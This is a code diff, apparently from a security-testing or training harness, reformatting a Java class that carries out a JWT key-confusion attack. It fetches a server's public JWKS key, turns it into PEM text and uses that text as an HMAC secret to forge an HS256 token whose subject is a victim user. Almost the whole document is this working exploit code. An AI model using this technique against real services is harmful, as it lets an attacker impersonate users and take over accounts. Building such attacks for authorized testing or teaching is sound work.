@@ -38,16 +38,22 @@ public final class JwtKeyConfusion extends JwtAttack {
 
   @Override
   String token(Target target) throws CredentialException, InterruptedException {
-    Hop answer = target.send("Fetch the server's public keys.", target.get("/.well-known/jwks.json"));
+    Hop answer =
+        target.send("Fetch the server's public keys.", target.get("/.well-known/jwks.json"));
     JsonNode key = rsaKey(Events.body(answer));
-    String pem = target.makes("Write the RSA key as text, as programs usually keep it.", "public key", pem(key));
+    String pem =
+        target.makes(
+            "Write the RSA key as text, as programs usually keep it.", "public key", pem(key));
     CompactToken forged =
         ownToken(target)
             .withHeader("alg", "HS256")
             .withHeader("kid", key.path("kid").asText())
             .withClaim("sub", Loot.VICTIM);
     String signed = forged.withSignature(hmac(pem, forged.signingInput())).text();
-    return target.makes("Write alg HS256 and sub alice, and sign with that text as the secret.", "forged token", signed);
+    return target.makes(
+        "Write alg HS256 and sub alice, and sign with that text as the secret.",
+        "forged token",
+        signed);
   }
 
   private static JsonNode rsaKey(JsonNode jwks) throws CredentialException {
@@ -62,7 +68,8 @@ public final class JwtKeyConfusion extends JwtAttack {
     try {
       RSAPublicKeySpec numbers = new RSAPublicKeySpec(number(key, "n"), number(key, "e"));
       PublicKey rsa = KeyFactory.getInstance("RSA").generatePublic(numbers);
-      String base64 = Base64.getMimeEncoder(PEM_LINE, new byte[] {'\n'}).encodeToString(rsa.getEncoded());
+      String base64 =
+          Base64.getMimeEncoder(PEM_LINE, new byte[] {'\n'}).encodeToString(rsa.getEncoded());
       return "-----BEGIN PUBLIC KEY-----\n" + base64 + "\n-----END PUBLIC KEY-----\n";
     } catch (GeneralSecurityException | IllegalArgumentException unusable) {
       throw new CredentialException("The server's RSA key cannot be read.");
